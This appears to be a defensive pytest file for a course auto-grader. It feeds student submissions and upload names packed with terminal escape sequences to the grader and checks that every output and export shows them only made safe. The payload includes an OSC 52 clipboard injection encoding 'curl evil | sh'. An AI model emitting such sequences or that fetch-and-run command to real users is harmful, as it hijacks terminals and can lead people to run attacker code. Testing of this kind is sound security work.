"""Red team 4, finding 4: what a submission returns, prints, raises, or names its upload reaches no reader raw.

Every function of every topic prints a string of terminal escapes (OSC 0 sets the window's title, OSC 52 the
clipboard, CSI clears the screen), NUL and other C0 and C1 controls, noncharacters, a lone surrogate and bidi
overrides, then returns it or raises an exception (of a class whose name holds them too) with it as the message.
Public check messages quoted returned strings with `str(value)[:80]`: the instructor's terminal got the raw
sequences, and the JUnit export was not well-formed XML. A class's upload and folder names reached grade-batch's
progress bar and grades.csv raw. Each reader is read here as it is: the terminal through a real pty, the JUnit
file with an XML parser, grades.csv, the HTML report and the Gradescope document.
"""
import ast
import csv
import fcntl
import io
import json
import os
import pty
import re
import struct
import subprocess
import sys
import termios
import threading
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

from grader import topics as topic_registry

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}

HOSTILE = ("\x1b]0;owned title\x07"                   # OSC 0: the terminal window's title
           "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"       # OSC 52: the clipboard ("curl evil | sh")
           "\x1b[2J\x1b[1;1H"                         # CSI: clear the screen, cursor home
           "\x9b6n\x85"                               # C1: CSI (a cursor report), next line
           "\x00\x07\x08\r\x7f"                       # NUL, BEL, backspace, carriage return, DEL
           "\ufffe\uffff\ud800"                       # noncharacters, a lone surrogate
           "\u202e\u2066 end")                        # a bidi override and isolate
NAME = "\x1b]0;t\x07\x1b]52;c;Y2xpcA==\x07\x1b[2J\r\n\u202e\x9bz"  # in an upload's name ('/' and NUL cannot be)
# What no reader may get: C0 controls but tab and newline, DEL, C1, surrogates, U+FFFE/U+FFFF, bidi controls.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]")
GRADER_STYLE = re.compile(r"\x1b\[[0-9;]*m")  # the grader's own colours (SGR); the payload holds none
MARK = "owned title"  # the payload's text, which must still be shown (made safe), not dropped

BODY = f'''
_odd = len(repr(list(locals().values()))) % 2  # by the arguments: some calls raise, the others return the string
import os as _os
for _fd in (1, 2):
    _os.write(_fd, {HOSTILE!r}.encode("utf-8", "surrogatepass") + b"\\n")
if _odd:
    raise type({"Odd" + NAME!r}, (ValueError,), {{}})({HOSTILE!r})
return {HOSTILE!r}
'''
INIT = f'''
import os as _os
_os.write(1, {HOSTILE!r}.encode("utf-8", "surrogatepass"))
'''


def hostile_module(topic: str) -> str:
    """The topic's stub with every function's and method's body replaced: print the payload, return or raise it."""
    tree = ast.parse((topic_registry.EXERCISES_DIR / f"{topic}.py").read_text())
    for node in tree.body:
        for fn in [node] + (node.body if isinstance(node, ast.ClassDef) else []):
            if isinstance(fn, ast.FunctionDef):
                fn.body = ast.parse(INIT if fn.name == "__init__" else BODY).body
    return ast.unparse(tree)


def hostile_folder(folder: Path, topics: list[str]) -> Path:
    folder.mkdir()
    for topic in topics:
        (folder / f"{topic}.py").write_text(hostile_module(topic))
    return folder


def on_a_terminal(args: list[str], cwd: Path, timeout: float = 900) -> tuple[int, str]:
    """Run `infergrade ARGS` with a pty for its standard output and error; its exit code and what it showed."""
    main, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 200, 0, 0))  # a window the bar can fill
    proc = subprocess.Popen([sys.executable, "-m", "grader", *args], cwd=cwd, env=ENV, stdin=subprocess.DEVNULL,
                            stdout=terminal, stderr=terminal, start_new_session=True)
    os.close(terminal)
    shown: list[bytes] = []
    reader = threading.Thread(target=lambda: shown.extend(iter(lambda: _read(main), b"")), daemon=True)
    reader.start()
    try:
        code = proc.wait(timeout=timeout)
    finally:
        proc.kill()
        reader.join(10)
        os.close(main)
    return code, b"".join(shown).decode("utf-8", "surrogateescape")


def _read(fd: int) -> bytes:
    try:
        return os.read(fd, 65536)
    except OSError:
        return b""  # the terminal closed with the grader


def unsafe_in(text: str, allowed: str = "") -> list[str]:
    return sorted({c for c in UNSAFE.findall(text) if c not in allowed})


def strings(value):
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def test_a_graded_submission_shows_no_escape_on_the_terminal_or_in_any_export(tmp_path):
    topics = topic_registry.all_topics()
    folder = hostile_folder(tmp_path / "sub", topics)
    code, shown = on_a_terminal(["grade", "--submission", str(folder), "--hidden", "--seed", "1",
                                 "--out", "results.json", "--export", "junit=results.xml",
                                 "--export", "gradescope=gradescope.json"], cwd=tmp_path)
    assert code == 0, shown[-3000:]
    assert unsafe_in(GRADER_STYLE.sub("", shown), allowed="\r") == [], shown[-3000:]  # \r: the pty's newlines
    assert MARK in shown                                     # the payload is shown, made safe

    doc = json.loads((tmp_path / "results.json").read_text())
    assert doc["status"] == "completed" and {t["id"] for t in doc["topics"]} == set(topics)
    assert [s for s in strings(doc) if unsafe_in(s)] == []
    assert any(MARK in c["message"] for t in doc["topics"] for c in t["checks"])

    raw = (tmp_path / "results.xml").read_text(encoding="utf-8")
    root = ET.fromstring(raw)                                # well-formed XML 1.0
    texts = [t for e in root.iter() for t in (e.text, e.tail, *e.attrib.values()) if t]
    assert [t for t in texts if unsafe_in(t)] == []
    assert any(MARK in t for t in texts)

    gradescope = json.loads((tmp_path / "gradescope.json").read_text())
    assert [s for s in strings(gradescope) if unsafe_in(s)] == []
    assert any(MARK in test["output"] for test in gradescope["tests"])


def test_a_class_whose_upload_names_hold_escapes_shows_none(tmp_path):
    """Upload and folder names reach grade-batch's progress bar, grades.csv and the report only made safe."""
    classroom = tmp_path / "class"
    classroom.mkdir()
    hostile_folder(classroom / f"ada{NAME}", ["decoding"])
    hostile_folder(Path(os.fsdecode(os.fsencode(classroom) + b"/raw\xff\xfe")), ["decoding"])  # not UTF-8
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("decoding.py", hostile_module("decoding"))
    (classroom / f"bo{NAME}.zip").write_bytes(buffer.getvalue())
    (classroom / f"cy{NAME}.zip").write_bytes(b"not an archive" + HOSTILE.encode("utf-8", "surrogatepass"))
    out = tmp_path / "out"
    code, shown = on_a_terminal(["grade-batch", str(classroom), "--out", str(out), "--topic", "decoding",
                                 "--seed", "1", "--jobs", "1"], cwd=tmp_path)
    assert code == 1, shown[-3000:]                          # the broken archive is an error row
    assert unsafe_in(GRADER_STYLE.sub("", shown), allowed="\r") == [], shown[-3000:]  # \r: the bar's redraws
    assert "ada" in shown

    with (out / "grades.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 5
    names = [row[0] for row in rows[1:]]
    assert [n[:2] for n in sorted(names)] == ["ad", "bo", "cy", "ra"]
    assert [n for n in names if unsafe_in(n) or "\n" in n] == []
    assert [cell for row in rows for cell in row if unsafe_in(cell)] == []
    assert all("52;c;Y2xpcA==" in n for n in names if not n.startswith("ra"))  # the names' text is kept

    code, report_shown = on_a_terminal(["report", str(out)], cwd=tmp_path)
    assert code == 0, report_shown[-3000:]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert unsafe_in(page) == []
    assert "ada" in page and "52;c;Y2xpcA==" in page           # the names are there, made safe


def test_a_progress_file_shows_no_escape(tmp_path):
    """The progress file is the student's to write: what `progress` shows from it (the function a check waits
    for), read by whoever runs it in their folder, comes made safe."""
    record = {"status": "not_started", "function": "sampling.top_p_filter", "waiting_for": f"sample{HOSTILE}",
              "passed": False, "at": HOSTILE}
    (tmp_path / ".infergrade-progress.json").write_text(json.dumps({"checks": {"sampling.x": record},
                                                                    "hints": {}}))
    code, shown = on_a_terminal(["progress", "--submission", str(tmp_path)], cwd=tmp_path, timeout=120)
    assert code == 0, shown[-3000:]
    assert unsafe_in(GRADER_STYLE.sub("", shown), allowed="\r") == [], shown[-3000:]
    assert MARK in shown                                     # the recorded text is shown, made safe
